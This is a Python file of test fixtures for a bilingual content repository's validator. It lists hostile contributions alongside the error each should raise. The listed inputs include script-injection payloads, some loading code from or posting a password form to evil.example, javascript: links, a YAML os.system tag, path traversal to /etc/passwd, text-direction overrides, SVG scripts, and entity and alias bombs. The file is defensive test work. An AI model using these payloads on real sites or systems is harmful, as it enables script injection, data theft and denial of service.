"""Faulty and hostile contributions: what is written, and the problem that answers it, with its line."""

from dataclasses import dataclass

SOURCE = (
    "sources:\n  - {url: 'https://example.org/source', title: {he: א, en: A}, kind: report, confidence: secondary}\n"
)
PERSON = "name: {he: בדוי, en: Fictitious}\n" + SOURCE
HEAD = "---\ntitle: כותרת\nsummary: תקציר\nauthors: [project]\ntopics: [fiction]\n---\n"
FIRST = HEAD.count("\n") + 1
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n{}\n</svg>\n'


@dataclass(frozen=True)
class Row:
    """``content`` at ``path`` of docs; ``code`` and ``line`` of the problem. Text after LINK is a link's target."""

    name: str
    path: str
    content: str | bytes
    code: str
    line: int = 0


LINK = "LINK "


def essay(number: int, name: str, text: str, code: str, line: int = FIRST) -> Row:
    return Row(name, f"essays/hostile-{number}.he.md", HEAD + text + "\n", code, line)


def person(number: int, name: str, text: str, code: str, line: int = 4) -> Row:
    return Row(name, f"people/hostile-{number}.yml", PERSON + text, code, line)


def asset(name: str, path: str, content: str | bytes, code: str, line: int = 0) -> Row:
    return Row(name, f"assets/images/{path}", content, code, line)


_TEXTS = [
    ("script", "<script>alert(1)</script>", "html-not-allowed"),
    ("script in capitals", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "html-not-allowed"),
    ("script over two lines", "<script\nsrc='https://evil.example/x.js'></script>", "html-not-allowed"),
    ("picture that runs", "<img src=x onerror=alert(1)>", "html-not-allowed"),
    ("svg in the text", "<svg onload=alert(1)></svg>", "html-not-allowed"),
    ("frame", "<iframe src='https://evil.example'></iframe>", "html-not-allowed"),
    ("form", "<form action='https://evil.example'><input name=password></form>", "html-not-allowed"),
    ("object", "<object data='x.swf'></object>", "html-not-allowed"),
    ("base", "<base href='https://evil.example/'>", "html-not-allowed"),
    ("meta refresh", "<meta http-equiv=refresh content='0;url=https://evil.example'>", "html-not-allowed"),
    ("style element", "<style>body{display:none}</style>", "html-not-allowed"),
    ("link by hand", "<a href='javascript:alert(1)'>א</a>", "html-not-allowed"),
    ("handler on a phrase", "<b onclick='alert(1)'>א</b>", "attribute-not-allowed"),
    ("style on a phrase", "<span style='position:fixed;inset:0'>א</span>", "attribute-not-allowed"),
    ("handler by braces", "פסקה\n{: onclick=alert(1) }", "attribute-not-allowed"),
    ("style by braces", "*א*{style='position:fixed'}", "attribute-not-allowed"),
    ("target by braces", "[א](https://example.org){target=_blank}", "attribute-not-allowed"),
    ("way to the other language by braces", "## א {#a data-counterpart=javascript:alert(1)}", "attribute-not-allowed"),
    ("block of script", "/// html | script\nalert(1)\n///", "html-not-allowed"),
    ("block with a handler", "/// html | iframe[src=https://evil.example]\n///", "html-not-allowed"),
    ("id of the page", "## א {#main}", "id-taken"),
    ("id of a source", "## א {#source-1}", "id-taken"),
    ("id of an explanation", "*א*{#tip-common-agenda}", "id-taken"),
    ("heading by underline", "כותרת\n=====", "heading-underlined"),
    ("link that runs", "[א](javascript:alert)", "link-not-allowed"),
    ("link that runs, mixed case", "[א](JaVaScRiPt:alert)", "link-not-allowed"),
    ("data as a link", "[א](data:text/html;base64,AAAA)", "link-not-allowed"),
    ("file of the machine", "[א](file:///etc/passwd)", "link-not-allowed"),
    ("address without a scheme", "[א](//evil.example/x)", "link-not-allowed"),
    ("backslashes", "[א](\\\\\\\\evil.example)", "link-not-allowed"),
    ("reference that runs", "[א][x]\n\n[x]: javascript:alert", "link-not-allowed"),
    ("climbing out by a link", "[א](../../../../etc/passwd)", "link-to-nothing"),
    ("climbing out by a page", "[א](../../../README.md)", "link-to-nothing"),
    ("climbing out by a picture", "![א](../../.git/config)", "link-to-nothing"),
    ("encoded climbing", "[א](..%2f..%2fetc/passwd)", "link-to-nothing"),
    ("scheme by a reference", "[א](javascript&colon;alert)", "link-to-nothing"),
    ("foreign picture", "![א](https://tracker.example/p.png)", "picture-elsewhere"),
    ("data as a picture", "![א](data:image/svg+xml,x)", "link-not-allowed"),
    ("override as a reference", "א&#x202E;ב", "turning-character"),
    ("isolate as a reference", "א&#8294;ב", "turning-character"),
    ("control as a reference", "א&#2;ב", "control-character"),
    ("override", "א\u202eב", "turning-character"),
    ("zero width", "א\u200bב", "control-character"),
    ("tag characters", "א\U000e0041ב", "control-character"),
    ("escape of a terminal", "א\x1b[2Jב", "control-character"),
    ("placeholder of Markdown", "א\x02wzxhzdk:0\x03ב", "control-character"),
    ("line separator", "א\u2028ב", "control-character"),
    ("long line", "א" * 5_001, "line-long"),
    ("long block", "\n".join(["מלה " * 100] * 40), "block-large"),
    ("open brackets", "[א " * 20, "nested-deep"),
    ("quotations", "> " * 20 + "א", "nested-deep"),
    ("lists", "- " * 20 + "א", "nested-deep"),
    ("deep indent", "- א\n\n" + " " * 100 + "- ב", "nested-deep"),
    ("emphasis", "*" * 100 + "א", "nested-deep"),
    ("many signs of code", "`" * 20 + "א", "nested-deep"),
    ("hidden name", "נסתרת בדויה אמרה.", "hidden-name"),
]
_LATER = {"deep indent": 2, "reference that runs": 2}

_FIELDS = [
    ("python object", "note: !!python/object/apply:os.system ['id']\n", "yaml-tag"),
    ("own tag", "note: !ENV SECRET\n", "yaml-tag"),
    ("anchor", "note: &a א\n", "yaml-alias"),
    ("merge key", "<<: {note: א}\n", "yaml-alias"),
    ("double key", "added: 2001\nadded: 2002\n", "yaml-double-key"),
    ("second document", "---\nname: א\n", "yaml-broken"),
    ("tab as an indent", "note:\n\the: א\n", "yaml-broken"),
    ("escape to an override", 'note: "א\\u202eב"\n', "turning-character"),
    ("escape to a null", 'note: "א\\0ב"\n', "control-character"),
    ("escape to a terminal", 'note: "א\\e[2J"\n', "control-character"),
    ("year nought", "added: 0000\n", "wrong-date"),
    ("Hebrew year", "added: 5775\n", "wrong-date"),
    ("day that is not", "added: 2015-02-29\n", "wrong-date"),
    ("address that runs", "website: 'javascript:alert(1)'\n", "wrong-url"),
    ("address with a quotation mark", "website: 'https://example.org/\"onmouseover=alert(1)'\n", "wrong-url"),
    ("address of somebody at", "website: 'https://bank.example@evil.example/'\n", "wrong-url"),
    ("climbing id", "topics: ['../../etc/passwd']\n", "unknown-id"),
    ("prototype", "__proto__: {admin: true}\n", "unknown-field"),
    ("python name", "__class__: x\n", "unknown-field"),
]  # fmt: skip
_LATER_FIELDS = {"double key": 5, "tab as an indent": 5}

TOGETHER = [
    *(
        essay(number, name, text, code, FIRST + _LATER.get(name, 1 if text.startswith("פסקה\n{:") else 0))
        for number, (name, text, code) in enumerate(_TEXTS)
    ),
    *(
        person(number, name, text, code, _LATER_FIELDS.get(name, 4))
        for number, (name, text, code) in enumerate(_FIELDS)
    ),
    Row("number of 5,000 digits", "events/hostile-1.yml",
        f"name: א\nparticipants: {{count: {'9' * 5000}}}\n" + SOURCE, "wrong-form", 2),
    Row("infinite place", "cases/hostile-1.he.md",
        HEAD[:-4] + "region: israel\nplaces: [{name: א, latitude: .inf}]\n---\n", "not-a-number", FIRST),
    Row("UTF-16", "people/utf-16.yml", PERSON.encode("utf-16"), "not-utf8", 1),
    Row("UTF-16 without a mark", "people/utf-16-le.yml", "name: A\n".encode("utf-16-le"), "control-character", 1),
    Row("windows-1255", "people/windows.yml", PERSON.encode("windows-1255"), "not-utf8", 1),
    Row("overlong UTF-8", "people/overlong.yml", b"name: \xc0\xaf\n", "not-utf8", 1),
    Row("surrogate in UTF-8", "people/surrogate.yml", b"name: \xed\xa0\x80\n", "not-utf8", 1),
    Row("null", "people/null.yml", PERSON + "note: \0\n", "control-character", 4),
    Row("fields without an end", "essays/open.he.md", HEAD[:-4] + "\n## א\n", "head-open", 1),
    Row("empty text", "essays/empty.he.md", "", "head-missing", 1),
    Row("empty record", "people/empty.yml", "", "file-empty", 1),
    Row("Hebrew name", "people/בדוי.yml", PERSON, "not-kebab-case", 1),
    Row("name with a line end", "people/a\nb.yml", PERSON, "name-unreadable"),
    Row("name that turns", "people/a\u202egpj.yml", PERSON, "name-unreadable"),
    Row("name of a command", "people/a\x1b[2J.yml", PERSON, "name-unreadable"),
    Row("name of a device", "people/con.yml", PERSON, "name-reserved"),
    Row("name with a space", "people/a b.yml", PERSON, "not-kebab-case", 1),
    Row("same name in capitals", "people/Fictitious-Author.yml", PERSON, "not-kebab-case", 1),
    Row("colliding names", "people/FICTITIOUS-SPEAKER.yml", PERSON, "name-collides"),
    Row("web page", "assets/images/page.html", "<script>alert(1)</script>", "asset-kind"),
    Row("web page among texts", "pages/page.html", "<script>alert(1)</script>", "wrong-name-prose"),
    Row("program", "assets/images/run.exe", b"MZ", "asset-kind"),
    Row("Markdown among files", "assets/images/readme.md", "# א", "asset-kind"),
    Row("Hebrew name of a file", "assets/images/תמונה.png", b"\x89PNG\r\n\x1a\n", "asset-kind"),
    asset("page called picture", "page.png", "<script>alert(1)</script>", "asset-other"),
    asset("script in a drawing", "script.svg", SVG.format("<script>alert(1)</script>"), "svg-active", 2),
    asset("handler in a drawing", "handler.svg", SVG.format("<g onload='alert(1)'/>"), "svg-active", 2),
    asset("link in a drawing", "link.svg", SVG.format("<a xlink:href='javascript:alert(1)'/>"), "svg-active", 2),
    asset("page in a drawing", "foreign.svg", SVG.format("<foreignObject/>"), "svg-active", 2),
    asset("foreign picture in a drawing", "far.svg",
          SVG.format("<image href='https://tracker.example/p.png'/>"), "svg-active", 2),
    asset("foreign style in a drawing", "style.svg",
          SVG.format("<style>@import 'https://evil.example'</style>"), "svg-active", 2),
    asset("change by time in a drawing", "time.svg", SVG.format("<set attributeName='href' to='x'/>"), "svg-active", 2),
    asset("entities in a drawing", "bomb.svg",
          '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>\n' + SVG.format("&b;"), "svg-active", 1),
    asset("broken drawing", "broken.svg", "<svg><g></svg>", "svg-active", 1),
    Row("link to a file outside", "people/linked.yml", LINK + "/etc/passwd", "file-link"),
    Row("link among the files", "assets/images/passwd.txt", LINK + "/etc/passwd", "file-link"),
    Row("linked folder", "assets/etc", LINK + "/etc", "file-link"),
    Row("loop of folders", "assets/loop", LINK + "..", "file-link"),
    Row("link to nothing", "people/gone.yml", LINK + "nowhere", "file-link"),
    Row("folder of another kind", "secrets/key.yml", PERSON, "unknown-folder"),
    Row("file in the root", ".github.yml.yml".lstrip("."), PERSON, "unknown-file"),
    Row("many folders", "people/" + "a/" * 40 + "b.yml", PERSON, "unknown-file"),
]  # fmt: skip

# Each of these has a check, and a time, of its own.
ALONE = [
    Row("20 MB of text", "essays/large.he.md", HEAD + "א" * 10_000_000, "file-large"),
    Row("20 MB of fields", "people/large.yml", "note: " + "א" * 10_000_000, "file-large"),
    Row("20 MB picture", "assets/images/large.png", b"\x89PNG\r\n\x1a\n" + bytes(20_000_000), "file-large"),
    Row("10,000 levels of lists in fields", "people/deep.yml", PERSON + "note: " + "[" * 10_000, "yaml-deep", 4),
    Row("10,000 levels of mappings", "people/deep.yml", PERSON + "note: " + "{a: " * 10_000, "yaml-deep", 4),
    Row("10,000 levels by indents", "people/deep.yml",
        "".join(f"{' ' * level}a:\n" for level in range(690)), "yaml-deep", 41),
    Row("alias bomb", "people/bomb.yml",
        "a: &a [x,x]\n" + "".join(f"b{n}: &b{n} [*a,*a]\n" for n in range(40)), "yaml-alias", 1),
    Row("10,000 quotations", "essays/deep.he.md", HEAD + ">" * 10_000, "line-long", FIRST),
    Row("4,000 quotations", "essays/deep.he.md", HEAD + "> " * 2_000, "nested-deep", FIRST),
    Row("10,000 brackets", "essays/deep.he.md", HEAD + ("[" * 39 + "\n") * 250, "nested-deep", FIRST),
    Row("10,000 lists", "essays/deep.he.md", HEAD + "1. " * 1_600, "nested-deep", FIRST),
    Row("10,000 marks of emphasis", "essays/deep.he.md", HEAD + ("*" * 4_000 + "\n") * 3, "nested-deep", FIRST),
    Row("nested blocks", "essays/deep.he.md", HEAD + "/// html | div\n\n" * 2_000, "nested-deep", FIRST + 30),
    Row("nested links", "essays/deep.he.md", HEAD + "[" * 30 + "א" + "](b)" * 30, "nested-deep", FIRST),
    Row("open elements", "essays/deep.he.md", HEAD + ("<a b='\n\n" * 2_000), "marks-many", FIRST + 800),
    Row("line of spaces in a heading", "essays/slow.he.md",
        HEAD + "## א" + " " * 4_900 + "ב", "heading-without-id", FIRST),
    Row("lines of spaces", "essays/slow.he.md",
        HEAD + ("א" + " " * 4_900 + "<i\n\n") * 25 + "<script>", "html-not-allowed", FIRST + 50),
    Row("runs of signs of code", "essays/slow.he.md",
        HEAD + " ".join("`" * n for n in range(1, 90)), "nested-deep", FIRST),
    Row("thousands of problems", "essays/many.he.md", HEAD + "<script>\n\n" * 390, "problems-many"),
    Row("thousands of unknown fields", "people/many.yml",
        PERSON + "".join(f"roels{n}: א\n" for n in range(10_000)), "problems-many"),
    Row("thousands of controls", "people/many.yml", "a: \x01\n" * 40_000, "control-character", 1),
    Row("200,000 entries", "people/wide.yml", PERSON + "aliases: [" + "a, " * 70_000 + "]", "not-a-mapping-here", 4),
]  # fmt: skip
